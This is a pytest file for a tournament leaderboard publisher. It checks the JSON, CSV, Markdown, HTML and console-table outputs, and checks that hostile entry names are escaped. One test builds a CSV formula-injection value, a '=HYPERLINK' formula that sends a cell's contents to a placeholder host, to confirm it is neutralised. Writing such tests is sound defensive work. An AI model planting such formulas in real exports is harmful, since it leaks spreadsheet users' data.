"""ratings.json, results.csv, leaderboard.md and the rich tables."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path

import pytest
from publish_sample import HOSTILE, MARKUP, QUOTES, UNPLAYED, close, sample_standings
from rich.console import Console

from arena.publish import md_escape, results_from_games, rich_tables, write_outputs
from arena.ratings import fit


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory):
    standings = sample_standings()
    ratings = fit(standings.results)
    paths = write_outputs(standings, ratings, tmp_path_factory.mktemp("out"))
    return standings, ratings, paths


def test_writes_the_four_files(published):
    _, _, paths = published
    assert {k: p.name for k, p in paths.items()} == {
        "json": "ratings.json",
        "csv": "results.csv",
        "md": "leaderboard.md",
        "html": "index.html",
    }
    assert all(p.is_file() and p.stat().st_size > 0 for p in paths.values())
    assert not list(paths["json"].parent.glob("*.tmp"))


def test_json_has_everything(published):
    standings, ratings, paths = published
    doc = json.loads(paths["json"].read_text())
    assert doc["format"] == "arena-ratings" and doc["version"] == 1
    assert doc["title"] == standings.title
    assert doc["ruleset"] == {"preset": "pagat", "hash": standings.ruleset_hash}
    assert doc["method"]["error_bars"] == ratings.error_method
    assert doc["method"]["mean"] == 1500.0 and doc["method"]["z"] == 1.96
    names = [e["name"] for e in doc["entries"]]
    assert names == [*ratings.names, UNPLAYED]
    for e in doc["entries"][:-1]:
        p = ratings[e["name"]]
        assert close(e["elo"], p.elo) and close(e["lower"], p.lower) and close(e["upper"], p.upper)
        assert (e["games"], e["wins"], e["losses"], e["draws"]) == (
            p.record.games,
            p.record.wins,
            p.record.losses,
            p.record.draws,
        )
        assert e["provenance"]["sdk_version"] == "0.1.0"
    last = doc["entries"][-1]
    assert last["elo"] is None and last["rank"] is None and last["games"] == 0
    assert [e["elo"] for e in doc["entries"][:-1]] == sorted(
        (e["elo"] for e in doc["entries"][:-1]), reverse=True
    )
    by_name = {e["name"]: e for e in doc["entries"]}
    assert by_name[MARKUP]["disqualified"] and by_name[MARKUP]["faults"] == {
        "illegal": 1,
        "timeout": 3,
    }
    assert doc["disqualified"] == [MARKUP]
    assert doc["faults"]["gamma"] == {"crash": 1}
    assert close(doc["los"]["alpha"][HOSTILE], ratings.los["alpha"][HOSTILE])
    assert doc["crosstable"]["alpha"]["gamma"]["games"] == 16  # the void game is not counted
    assert close(doc["covariance"]["alpha"]["alpha"], ratings["alpha"].se ** 2)
    assert doc["games"] == len(standings.games) - 1 == doc["games_listed"] - 1


def test_csv_has_one_row_per_game(published):
    standings, _, paths = published
    rows = list(csv.DictReader(io.StringIO(paths["csv"].read_text())))
    assert len(rows) == len(standings.games)
    first, void = rows[0], rows[-1]
    g = standings.games[0]
    assert (first["game_id"], first["entry_a"], first["entry_b"], first["cluster"]) == (
        g.game_id,
        g.entry_a,
        g.entry_b,
        g.cluster,
    )
    assert first["score_a"] == f"{g.score:g}" and first["ending"] == "target"
    assert int(first["scores_a"]) == g.scores_a
    assert first["ruleset_hash"] == standings.ruleset_hash
    assert first["image_a"] == standings.provenance[g.entry_a]["image_id"]
    assert void["ending"] == "void:docker"
    # Hostile names survive the round trip exactly (quoting, commas, quotes).
    assert {r["entry_a"] for r in rows} >= {HOSTILE, QUOTES, MARKUP}


def test_markdown_escapes_names(published):
    standings, ratings, paths = published
    md = paths["md"].read_text()
    assert "<script>" not in md and "<b>" not in md
    assert md_escape(HOSTILE) in md
    assert "| " + md_escape(MARKUP) + " |" in md  # the pipe in the name does not split the row
    lines = [ln for ln in md.splitlines() if ln.startswith("| ") and "Elo" not in ln]
    leader = lines[: len(ratings.players) + 1]
    assert all(ln.count(" | ") == 11 for ln in leader)  # every row has 12 cells
    assert leader[0].startswith(
        f"| 1 | {md_escape(ratings.names[0])} | {ratings.players[0].elo:.0f} |"
    )
    assert any("DQ" in ln and md_escape(MARKUP) in ln for ln in leader)
    assert "# Spring &lt;Cup&gt; &amp; friends" in md


def test_md_escape():
    assert md_escape("a|b") == r"a\|b"
    assert md_escape("<x>") == "&lt;x&gt;"
    assert md_escape("two\nlines") == "two lines"
    assert md_escape("[link](http://x)") == r"\[link\]\(http://x\)"


def test_rich_tables_print_names_literally(published):
    standings, ratings, _ = published
    tables = rich_tables(standings, ratings)
    assert len(tables) == 3
    console = Console(file=io.StringIO(), width=250, record=True, color_system=None)
    for t in tables:
        console.print(t)
    text = console.export_text()
    assert MARKUP in text  # not interpreted as rich markup
    assert HOSTILE in text and "DQ" in text
    assert f"{ratings.players[0].elo:.0f}" in text
    assert "timeout" in text and "crash" in text


def test_results_from_games_skips_void_games():
    standings = sample_standings(pairs_per_pairing=1)
    assert len(results_from_games(standings.games)) == len(standings.games) - 1


def test_outputs_for_a_two_entry_model_fallback(tmp_path: Path):
    standings = sample_standings(pairs_per_pairing=1)
    ratings = fit(standings.results)
    assert ratings.error_method == "model"
    paths = write_outputs(standings, ratings, tmp_path / "nested" / "dir")
    assert json.loads(paths["json"].read_text())["method"]["error_bars"] == "model"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_start_a_formula(tmp_path: Path, start: str):
    """A name a spreadsheet would run (=HYPERLINK(...), +cmd, -2+3, @SUM) is written
    with the leading-quote rule; numbers (negative scores) stay numbers."""
    evil = f"{start}HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")"
    standings = sample_standings()
    games = [
        dataclasses.replace(g, entry_a=evil, scores_b=-120) if g.entry_a == "alpha" else g
        for g in standings.games
    ]
    standings = dataclasses.replace(
        standings,
        games=games,
        entries=[evil if e == "alpha" else e for e in standings.entries],
        provenance={**standings.provenance, evil: {"image_id": "@img", "sdk_version": "-1", "engine_version": "+2"}},
        results=results_from_games(games),
    )
    paths = write_outputs(standings, fit(standings.results), tmp_path)
    with paths["csv"].open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    mine = [r for r in rows if r["entry_a"].lstrip("'") == evil]
    assert mine
    for r in mine:
        assert r["entry_a"] == "'" + evil
        assert (r["image_a"], r["sdk_a"], r["engine_a"]) == ("'@img", "'-1", "'+2")
        assert r["scores_b"] == "-120"  # a number, not text
    for r in rows:
        for column, value in r.items():
            if column not in ("scores_a", "scores_b"):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    # ratings.json keeps the exact name.
    assert evil in {e["name"] for e in json.loads(paths["json"].read_text())["entries"]}


def test_leaderboard_explains_itself(tmp_path: Path):
    """Every column has a header (DQ included), the caption says what ± is and how it was
    estimated, and it lists the rule overrides that make the hash differ from the preset's."""
    from arena_sdk.engine import resolve_ruleset

    rules = resolve_ruleset("pagat", {"max_hands": "40", "lose_floor": "-300"})
    standings = dataclasses.replace(
        sample_standings(), ruleset=rules.to_dict(), ruleset_hash=rules.hash
    )
    ratings = fit(standings.results)
    table = rich_tables(standings, ratings)[0]
    assert all(str(c.header).strip() for c in table.columns)
    assert str(table.columns[-1].header) == "DQ"
    console = Console(record=True, width=300)
    console.print(table)
    text = console.export_text()
    assert "pagat + lose_floor=-300, max_hands=40" in text and rules.hash[:12] in text
    assert "95% interval of each Elo" in text and "DQ: disqualified" in text
    paths = write_outputs(standings, ratings, tmp_path)
    md = paths["md"].read_text()
    assert "| DQ |" in md and "lose\\_floor=\\-300" in md and "95% interval of each Elo" in md
    page = paths["html"].read_text()
    assert "pagat + lose_floor=-300, max_hands=40" in page and 'id="interval-note"' in page
    # No ruleset known (an older store): the preset alone, no invented overrides.
    plain = dataclasses.replace(standings, ruleset={})
    console = Console(record=True, width=300)
    console.print(rich_tables(plain, ratings)[0])
    assert "rules pagat (hash" in console.export_text()
